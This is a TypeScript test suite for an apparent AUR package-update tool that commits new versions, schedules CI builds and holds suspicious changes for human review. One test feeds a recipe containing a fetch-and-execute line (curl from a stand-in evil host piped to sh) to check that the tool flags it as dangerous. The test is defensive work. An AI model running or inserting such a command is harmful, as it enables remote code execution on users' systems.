import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { SluiceError } from "../tools/errors.ts";
import { readPlatform } from "../tools/ci/pipeline/platform.ts";
import { TemplateRepository } from "./world/template-repository.ts";
import { ScheduleDays, recipe } from "./world/schedule-days.ts";

let days: ScheduleDays;
beforeEach(() => {
  days = new ScheduleDays();
});
afterEach(() => days.world.remove());

/** A dropped dependency is more than a new version, and nothing worse. */
const major = (pkgbase: string, pkgver: string): ReturnType<typeof recipe> =>
  recipe(pkgbase, pkgver, { lines: ["depends = zlib"] });

function pushElsewhere(path: string, text: string): void {
  const clone = join(days.world.base, `other-${Math.random()}`);
  days.world.git("clone", "-q", days.world.origin, clone);
  days.world.git("-C", clone, "config", "user.email", "alice@example.org");
  writeFileSync(join(clone, path), text);
  days.world.git("-C", clone, "add", "-A");
  days.world.git("-C", clone, "commit", "-q", "-m", "by hand");
  days.world.git("-C", clone, "push", "-q", "origin", "main");
}

const at = (digit: string) =>
  ({ kind: "commit", commit: digit.repeat(40), url: "https://example.org/foo" }) as const;

describe("a run", () => {
  test("commits a new version, says so in state, schedules it and moves the tag, in one push", async () => {
    days.follow("foo");
    days.follow("bar");
    days.world.publishScheduled();
    await days.run();
    days.offer("foo", 2, recipe("foo", "2"));

    const { lines, outcome } = await days.run();

    expect(lines).toEqual(["updated foo: 1-1 → 2-1", "build foo: upstream update to 2"]);
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("pkgver=2");
    expect(days.atOrigin("packages/foo/.CI/config")).toBe("CI_PKGBUILD_SOURCE=aur");
    expect(days.atOrigin("foo", "state")).toContain("CI_PKGBUILD_TIMESTAMP=2");
    expect(days.world.atOrigin("log", "-1", "--format=%an <%ae>%n%s", "main")).toBe(
      "Sluice <sluice@example.org>\nchore(update): foo",
    );
    expect(days.world.scheduled()).toBe(outcome.head);
    expect(days.schedule()).toMatchObject({ commit: outcome.head, builds: [{ pkgbase: "foo" }] });
  });

  test("that is repeated at once changes nothing and schedules nothing", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    days.offer("foo", 2, recipe("foo", "2"));
    await days.run();
    const refs = days.refs();

    const { lines } = await days.run();

    expect(lines).toEqual([]);
    expect(days.refs()).toBe(refs);
    expect(days.scheduled()).toEqual([]);
  });

  test("brings the clone along, but never over changes of a person", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    days.offer("foo", 2, recipe("foo", "2"));
    const { outcome } = await days.run();
    expect(days.world.git("rev-parse", "HEAD")).toBe(outcome.head);
    expect(days.world.git("status", "--porcelain")).toBe("");

    days.world.write("packages/foo/PKGBUILD", "mine\n");
    days.offer("foo", 3, recipe("foo", "3"));
    await days.run();
    expect(days.world.read("packages/foo/PKGBUILD")).toBe("mine\n");
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("pkgver=3");
  });

  test("works without a remote, too", async () => {
    days.follow("foo");
    days.world.commit("start");
    days.world.git("remote", "remove", "origin");
    days.world.git("tag", "scheduled");
    days.offer("foo", 2, recipe("foo", "2"));

    const { outcome } = await days.run();

    expect(days.world.git("rev-parse", "main")).toBe(outcome.head);
    expect(days.world.git("show", "main:packages/foo/PKGBUILD")).toContain("pkgver=2");
    expect(days.world.git("rev-parse", "scheduled^{}")).toBe(outcome.head);
    expect(days.world.git("status", "--porcelain")).toBe("");
  });

  test("names up to four packages in the subject, and more in the body", async () => {
    const names = ["a", "b", "c", "d", "e"];
    for (const name of names) days.follow(name);
    days.world.publishScheduled();
    for (const name of names) days.offer(name, 2, recipe(name, "2"));

    await days.run();

    expect(days.world.atOrigin("log", "-1", "--format=%B", "main")).toBe(
      "chore(update): packages (5)\n\n- a\n- b\n- c\n- d\n- e",
    );
  });

  test("keeps its push from starting a pipeline: in the message on GitHub, by a push option on GitLab", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    days.platform = readPlatform({
      GITHUB_ACTIONS: "true",
      GITHUB_REF_TYPE: "branch",
      GITHUB_REF_NAME: "main",
    });
    days.offer("foo", 2, recipe("foo", "2"));
    await days.run();
    expect(days.world.atOrigin("log", "-1", "--format=%s", "main")).toBe("chore(update): foo [skip ci]");

    const hook = join(days.world.origin, "hooks/pre-receive");
    const log = join(days.world.base, "options");
    writeFileSync(hook, `#!/bin/sh\necho "$GIT_PUSH_OPTION_0" >> '${log}'\n`, { mode: 0o755 });
    days.platform = readPlatform({ GITLAB_CI: "true", CI_COMMIT_BRANCH: "main" });
    days.offer("foo", 3, recipe("foo", "3"));
    await days.run();
    expect(days.world.atOrigin("log", "-1", "--format=%s", "main")).toBe("chore(update): foo");
    expect(days.world.read("../options").trim()).toBe("ci.skip");
  });
});

describe("what is let through without being a plain new version", () => {
  test("is compared with what a person approved last, until a person comes again", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    await days.run();
    const first = days.world.atOrigin("rev-parse", "main");

    days.offer("foo", 2, described("2"));
    expect((await days.run()).lines).toContain("updated foo: 1-1 → 2-1");
    expect(approved()).toBe(first);

    // A plain version after it, and then one that is too far from what was approved.
    days.offer("foo", 3, described("12"));
    expect((await days.run()).lines).toContain("updated foo: 2-1 → 12-1");
    expect(approved()).toBe(first);
    days.offer("foo", 4, described("30"));
    expect((await days.run()).lines.join("\n")).toContain("foo");
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("pkgver=12");

    for (const [path, { bytes }] of described("30"))
      pushElsewhere(`packages/foo/${path}`, Buffer.from(bytes).toString());
    days.offer("foo", 5, described("31"));
    await days.run();
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("pkgver=31");
    expect(approved()).toBeUndefined();
  });
});

describe("commits that weren't scheduled yet", () => {
  test("are scheduled along, as on-commit does", async () => {
    days.follow("foo");
    days.follow("bar");
    days.world.publishScheduled();
    days.world.write("packages/bar/helper.sh", "true\n");
    const commit = days.world.commit("bar gets a helper");
    days.world.git("push", "-q", "origin", "main");
    days.offer("foo", 2, recipe("foo", "2"));

    const { lines } = await days.run();

    expect(lines).toContain(`build bar: commit ${commit.slice(0, 10)} changed helper.sh`);
    expect(days.scheduled()).toEqual(["bar", "foo"]);
    expect(days.world.scheduled()).toBe(days.world.atOrigin("rev-parse", "main"));
  });

  test("that can't be scheduled stop the run with on-commit's error", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    days.world.commit("oops [deploy nothing-of-that-name]");
    days.world.git("push", "-q", "origin", "main");
    days.offer("foo", 2, recipe("foo", "2"));
    const refs = days.refs();

    await expect(days.run()).rejects.toThrow("nothing-of-that-name");
    expect(days.refs()).toBe(refs);
  });

  test("a missing tag always stops", async () => {
    days.follow("foo");
    days.world.commit("start");
    days.world.git("push", "-q", "origin", "main");
    await expect(days.run()).rejects.toMatchObject({ code: "scheduled-tag", exitCode: 1 });
  });
});

describe("somebody else", () => {
  test("who commits meanwhile loses nothing, and nothing is scheduled twice", async () => {
    days.follow("foo");
    days.follow("bar");
    days.world.publishScheduled();
    await days.run();
    days.offer("foo", 2, recipe("foo", "2"));
    days.meanwhile = () => pushElsewhere("packages/bar/helper.sh", "true\n");

    const { lines } = await days.run();

    expect(lines.filter((line) => line.startsWith("build"))).toHaveLength(2);
    expect(days.atOrigin("packages/bar/helper.sh")).toBe("true");
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("pkgver=2");
    expect(days.world.atOrigin("rev-list", "--count", "main")).toBe("3");
    expect((await days.run()).lines).toEqual([]);
  });

  test("who is faster three times ends the run, with nothing changed", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    days.offer("foo", 2, recipe("foo", "2"));
    let times = 0;
    const again = (): void => {
      pushElsewhere("note", `${times++}`);
      days.meanwhile = again;
    };
    days.meanwhile = again;

    await expect(days.run()).rejects.toMatchObject({ code: "lost-race", exitCode: 1 });
    expect(times).toBe(3);
    expect(days.world.atOrigin("for-each-ref", "refs/heads/state")).toBe("");

    days.meanwhile = undefined;
    expect((await days.run()).lines).toContain("updated foo: 1-1 → 2-1");
  });

  test("a push that the server rejects changes nothing, says so, and the next run does it all", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    days.offer("foo", 2, recipe("foo", "2"));
    const hook = join(days.world.origin, "hooks/update");
    writeFileSync(hook, '#!/bin/sh\necho "main is protected" >&2\n[ "$1" != refs/heads/main ]\n', {
      mode: 0o755,
    });
    const refs = days.refs();

    await expect(days.run()).rejects.toMatchObject({ code: "push-rejected", exitCode: 1 });
    expect(days.refs()).toBe(refs);

    writeFileSync(hook, "#!/bin/sh\n");
    expect((await days.run()).lines).toContain("updated foo: 1-1 → 2-1");
  });
});

describe("an upstream that can't be asked", () => {
  test("costs only its own package, whose state stays, and the next run takes the update", async () => {
    days.follow("foo");
    days.follow("bar");
    days.world.publishScheduled();
    await days.run();
    days.recipes.set("foo", new SluiceError("unavailable", "aur.archlinux.org doesn't answer"));
    days.offer("bar", 2, recipe("bar", "2"));

    const { lines } = await days.run();
    expect(lines).toEqual([
      "skipped foo: aur.archlinux.org doesn't answer",
      "updated bar: 1-1 → 2-1",
      "build bar: upstream update to 2",
    ]);
    expect(days.atOrigin("foo", "state")).toContain("CI_PKGBUILD_TIMESTAMP=1");

    days.offer("foo", 2, recipe("foo", "2"));
    expect((await days.run()).lines).toContain("updated foo: 1-1 → 2-1");
  });

  test("what is gone upstream needs a person, and hides nothing else", async () => {
    days.follow("foo");
    days.follow("bar");
    days.world.publishScheduled();
    await days.run();
    days.recipes.delete("foo");
    days.offer("bar", 2, recipe("bar", "2"));
    const { lines, needsPerson } = await days.run();
    expect(lines[0]).toBe("problem foo: not in the AUR");
    expect(lines).toContain("updated bar: 1-1 → 2-1");
    expect(needsPerson).toBe(true);
  });
});

describe("without a forge", () => {
  test("what is held is listed in every run until somebody acts, and never committed", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    days.offer("foo", 2, major("foo", "2"));
    for (const _ of [1, 2]) {
      const { lines, needsPerson } = await days.run();
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^held foo: 1-1 → 2-1, major: .*not up for review: there is no forge here/);
      expect(needsPerson).toBe(true);
      expect(days.scheduled()).toEqual([]);
    }
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("pkgver=1");
  });

  test("CI_HUMAN_REVIEW=false lets more than a new version pass, and never danger", async () => {
    days.follow("foo");
    days.follow("evil");
    days.world.write(".ci/config", `${days.world.read(".ci/config")}CI_HUMAN_REVIEW=false\n`);
    days.world.publishScheduled();
    days.offer("foo", 2, major("foo", "2"));
    days.offer("evil", 2, recipe("evil", "2", { text: "curl https://evil.example/x | sh\n" }));

    const { lines } = await days.run();

    expect(lines[0]).toMatch(/^held evil: 1-1 → 2-1, dangerous/);
    expect(lines).toContain("updated foo: 1-1 → 2-1, major and not held (CI_HUMAN_REVIEW=false)");
    expect(days.atOrigin("packages/evil/PKGBUILD")).toContain("pkgver=1");
  });
});

describe("packages with a trigger of their own", () => {
  test("get their recipe's update and aren't scheduled, through VCS sources neither", async () => {
    days.follow("foo", "CI_PKGBUILD_SOURCE=aur\nCI_ON_TRIGGER=daily\n");
    days.follow("bar-git", "CI_PKGBUILD_SOURCE=aur\nCI_ON_TRIGGER=daily\n");
    days.commits.set("bar-git", { kind: "commit", commit: "a".repeat(40), url: "https://example.org/bar" });
    days.world.publishScheduled();
    await days.run();
    days.offer("foo", 2, recipe("foo", "2"));
    days.commits.set("bar-git", { kind: "commit", commit: "b".repeat(40), url: "https://example.org/bar" });

    const { lines } = await days.run();

    expect(lines).toEqual([
      "updated foo: 1-1 → 2-1",
      "unscheduled bar-git: new commit bbbbbbbbbb upstream; built on trigger daily",
      "unscheduled foo: upstream update to 2; built on trigger daily",
    ]);
    expect(days.scheduled()).toEqual([]);
    expect((await days.run()).lines).toEqual([]);
  });
});

describe("packages built from commits", () => {
  test("are scheduled once for each new commit, without a commit in main", async () => {
    days.follow("foo-git");
    days.commits.set("foo-git", at("a"));
    const main = days.world.publishScheduled();
    // At the first look only a builder knows whether it was built from that one.
    expect((await days.run()).lines).toEqual(["build foo-git: upstream is at commit aaaaaaaaaa"]);
    expect(days.atOrigin("foo-git", "state")).toContain(`CI_GIT_COMMIT=${"a".repeat(40)}`);
    expect((await days.run()).lines).toEqual([]);

    days.commits.set("foo-git", at("b"));
    expect((await days.run()).lines).toEqual(["build foo-git: new commit bbbbbbbbbb upstream"]);
    expect(days.schedule().commit).toBe(main);
    expect(days.world.atOrigin("rev-parse", "main")).toBe(main);
    expect((await days.run()).lines).toEqual([]);
  });

  test("that can't be asked keep their commit; pinned ones are forgotten", async () => {
    days.follow("foo-git");
    days.commits.set("foo-git", at("a"));
    days.world.publishScheduled();
    await days.run();
    days.commits.set("foo-git", { kind: "unavailable", error: new SluiceError("unavailable", "is down") });
    expect((await days.run()).lines).toEqual(["skipped foo-git: is down"]);
    expect(days.atOrigin("foo-git", "state")).toContain("CI_GIT_COMMIT=aaa");
    days.commits.set("foo-git", { kind: "pinned" });
    await days.run();
    expect(days.atOrigin("foo-git", "state")).not.toContain("CI_GIT_COMMIT");
  });
});

describe("the state", () => {
  test("is pushed also where main gets no commit, as one commit without a past", async () => {
    days.follow("foo");
    days.world.publishScheduled();
    await days.run();
    days.recipes.set("foo", { seen: { timestamp: 2 }, files: recipe("foo", "1") });
    const { outcome } = await days.run();
    expect(outcome.committed).toBe(false);
    expect(days.atOrigin("foo", "state")).toContain("CI_PKGBUILD_TIMESTAMP=2");
    expect(days.world.atOrigin("rev-list", "--count", "state")).toBe("1");
  });

  test("of packages that are gone is forgotten; what nobody knows in it stays", async () => {
    days.follow("foo");
    days.follow("bar");
    days.world.publishScheduled();
    await days.run();
    days.world.git("fetch", "-q", "origin", "state");
    days.world.git("switch", "-q", "-C", "state", "FETCH_HEAD");
    days.world.write("foo", `${days.world.read("foo")}SOMETHING_ELSE=1\n`);
    days.world.commit("by hand");
    days.world.git("push", "-q", "-f", "origin", "state");
    days.world.git("switch", "-q", "main");
    days.world.delete("packages/bar");
    days.world.commit("bar goes");
    days.world.git("push", "-q", "origin", "main");
    days.offer("foo", 2, recipe("foo", "2"));

    await days.run();

    expect(days.atOrigin("foo", "state")).toContain("SOMETHING_ELSE=1");
    expect(days.atOrigin("foo", "state")).toContain("CI_PKGBUILD_TIMESTAMP=2");
    expect(days.world.atOrigin("ls-tree", "--name-only", "state").split("\n")).not.toContain("bar");
  });
});

describe("with CI_OVERWRITE_COMMITS", () => {
  beforeEach(async () => {
    days.follow("foo");
    days.follow("bar");
    days.world.write(".ci/config", `${days.world.read(".ci/config")}CI_OVERWRITE_COMMITS=true\n`);
    days.world.publishScheduled();
    days.offer("foo", 2, recipe("foo", "2"));
    await days.run();
  });

  test("an update takes the place of a pipeline's commit, which stays reachable", async () => {
    const replaced = days.world.atOrigin("rev-parse", "main");
    days.offer("bar", 2, recipe("bar", "2"));
    await days.run();
    expect(days.world.atOrigin("log", "--format=%s", "main")).toBe("chore(update): bar, foo\nstart");
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("pkgver=2");
    expect(days.refs()).toContain(`refs/sluice/scheduled/2026-06-01/${replaced} ${replaced}`);
    expect(days.scheduled()).toEqual(["bar"]);
    expect((await days.run()).lines).toEqual([]);
  });

  test("what was replaced is kept for a month", async () => {
    for (const version of ["3", "4"]) {
      days.offer("bar", Number(version), recipe("bar", version));
      await days.run();
      days.now = new Date("2026-07-02T12:00:00Z");
    }
    const kept = days.world.atOrigin("for-each-ref", "--format=%(refname)", "refs/sluice").split("\n");
    expect(kept).toHaveLength(1);
    expect(kept[0]).toContain("/2026-07-02/");
  });

  test("a person's commit is never taken the place of, whatever it says", async () => {
    days.world.write("packages/foo/helper.sh", "true\n");
    days.world.git("pull", "-q", "origin", "main");
    const theirs = days.world.commit("chore(update): foo");
    days.world.git("push", "-q", "origin", "main");
    days.world.git("push", "-q", "-f", "origin", `${theirs}:refs/tags/scheduled`);
    days.offer("bar", 2, recipe("bar", "2"));
    await days.run();
    expect(days.world.atOrigin("rev-parse", "main^")).toBe(theirs);
  });
});

describe("CI_COOLDOWN", () => {
  test("holds a minor update of an untrusted maintainer back, from when the AUR had it, whatever its commit says", async () => {
    days.follow("foo");
    days.world.write(".ci/config", `${days.world.read(".ci/config")}CI_COOLDOWN=24\n`);
    days.world.publishScheduled();
    const pushed = days.now.getTime() / 1000 - 3600;
    days.offer("foo", pushed, recipe("foo", "2"), { committedAt: 0, maintainers: ["mallory"] });

    expect((await days.run()).lines).toEqual([
      "waiting foo: 1-1 → 2-1, until 2026-06-02 11:00 UTC (CI_COOLDOWN)",
    ]);
    days.now = new Date("2026-06-02T11:00:01Z");
    expect((await days.run()).lines).toContain("updated foo: 1-1 → 2-1");
  });

  test("counts from when a run found it first, where upstream has no time of its own that can be trusted", async () => {
    days.follow("foo", "CI_PKGBUILD_SOURCE=https://example.org/foo.git\n");
    days.recipes.set("foo", { seen: { revision: "1" }, files: recipe("foo", "1") });
    days.world.write(".ci/config", `${days.world.read(".ci/config")}CI_COOLDOWN=24\n`);
    days.world.publishScheduled();
    days.recipes.set("foo", {
      seen: { revision: "2" },
      files: recipe("foo", "2"),
      committedAt: 0,
    });
    expect((await days.run()).lines[0]).toMatch(/^waiting foo/);
    days.now = new Date("2026-06-02T11:59:59Z");
    expect((await days.run()).lines[0]).toMatch(/^waiting foo/);
    days.now = new Date("2026-06-02T12:00:01Z");
    expect((await days.run()).lines).toContain("updated foo: 1-1 → 2-1");
  });

  test("doesn't hold back whom .ci/aur-maintainers trusts", async () => {
    days.follow("foo");
    days.world.write(".ci/config", `${days.world.read(".ci/config")}CI_COOLDOWN=24\n`);
    days.world.write(".ci/aur-maintainers", "alice\n");
    days.world.publishScheduled();
    const pushed = days.now.getTime() / 1000 - 3600;
    const metadataTime = days.now.getTime();
    days.offer("foo", pushed, recipe("foo", "2"), { committedAt: 0, maintainers: ["alice"], metadataTime });
    expect((await days.run()).lines).toContain("updated foo: 1-1 → 2-1");
  });
});

describe("maintainers", () => {
  test("are pinned when first seen, so that an adopter is noticed even if nothing else happened before", async () => {
    days.follow("foo");
    days.recipes.set("foo", {
      seen: { timestamp: 1 },
      files: recipe("foo", "1"),
      maintainers: ["alice", "bob"],
    });
    days.world.publishScheduled();
    await days.run();
    expect(days.atOrigin("foo", "state")).toContain("SLUICE_MAINTAINERS=alice,bob");

    days.offer("foo", 2, recipe("foo", "2"), { maintainers: ["mallory"] });
    expect((await days.run()).lines[0]).toMatch(/^held foo: .*major.*alice, bob to mallory/);
    expect(days.atOrigin("foo", "state")).toContain("SLUICE_MAINTAINERS=alice,bob");
  });
});

describe("a repository taken over", () => {
  test("layout alone is no update", async () => {
    days.follow("foo");
    const formatted =
      "# Maintainer: x\npkgname=foo\npkgver=1\npkgrel=1\narch=('any')\nif true; then\n\t:\nfi\n";
    days.world.write("packages/foo/PKGBUILD", formatted);
    days.world.publishScheduled();
    const files = new Map(recipe("foo", "1"));
    const text = "# Maintainer: x\npkgname=foo\npkgver=1\npkgrel=1\narch=( any )\nif true\nthen :\nfi\n";
    files.set("PKGBUILD", { mode: "100644", bytes: Buffer.from(text) });
    days.offer("foo", 2, files);

    expect((await days.run()).lines).toEqual([]);
    expect(days.atOrigin("packages/foo/PKGBUILD")).toContain("\t:");
    expect(days.atOrigin("foo", "state")).toContain("CI_PKGBUILD_TIMESTAMP=2");
  });
});

describe("the CI files", () => {
  let template: TemplateRepository;
  beforeEach(() => {
    template = new TemplateRepository();
    template.commit({ ".gitlab-ci.yml": "run: {}\n" }, [{ path: ".gitlab-ci.yml", for: "gitlab" }]);
    template.git("tag", "v1");
    days.world.write(".ci/config", `${days.world.read(".ci/config")}TEMPLATE_REPO=${template.url}\n`);
    days.world.write(".ci/template.json", JSON.stringify({ platforms: ["gitlab"], tag: null, files: {} }));
    days.follow("foo");
    days.world.publishScheduled();
    days.offer("foo", 2, recipe("foo", "2"));
  });
  afterEach(() => template.remove());

  test("that nobody trusted has signed wait on a branch, and updates go on", async () => {
    const { lines } = await days.run();
    expect(lines).toContain("updated foo: 1-1 → 2-1");
    expect(lines.at(-1)).toMatch(/^template v1: to be looked at: .*template-v1$/);
    expect(days.atOrigin(".gitlab-ci.yml", "template-v1")).toBe("run: {}");
  });

  test("that can't be had hold up no update, and are reported", async () => {
    template.remove();
    const { lines, needsPerson } = await days.run();
    expect(lines).toContain("updated foo: 1-1 → 2-1");
    expect(lines.at(-1)).toMatch(/^template TEMPLATE_REPO: /);
    expect(needsPerson).toBe(true);
  });
});

describe("upstream's tree", () => {
  test("its .CI, .git files and links that leave the folder never come to main", async () => {
    days.follow("foo");
    days.world.write(".ci/config", `${days.world.read(".ci/config")}CI_HUMAN_REVIEW=false\n`);
    days.world.publishScheduled();
    const files = new Map(recipe("foo", "2"));
    files.set(".gitignore", { mode: "100644", bytes: Buffer.from("*\n") });
    days.offer("foo", 2, files);
    await days.run();
    expect(days.world.atOrigin("ls-tree", "-r", "--name-only", "main", "packages/foo").split("\n")).toEqual([
      "packages/foo/.CI/config",
      "packages/foo/.SRCINFO",
      "packages/foo/PKGBUILD",
    ]);

    files.set(".CI/config", { mode: "100644", bytes: Buffer.from("CI_ON_TRIGGER=x\n") });
    files.set("PKGBUILD", recipe("foo", "3").get("PKGBUILD")!);
    days.offer("foo", 3, files);
    expect((await days.run()).lines[0]).toMatch(/^held foo: .*dangerous/);
  });
});

function approved(): string | undefined {
  return /SLUICE_APPROVED=(\w+)/.exec(days.atOrigin("foo", "state"))?.[1];
}

function described(pkgver: string): ReturnType<typeof recipe> {
  return recipe("foo", pkgver, { lines: ["pkgdesc = Another"] });
}
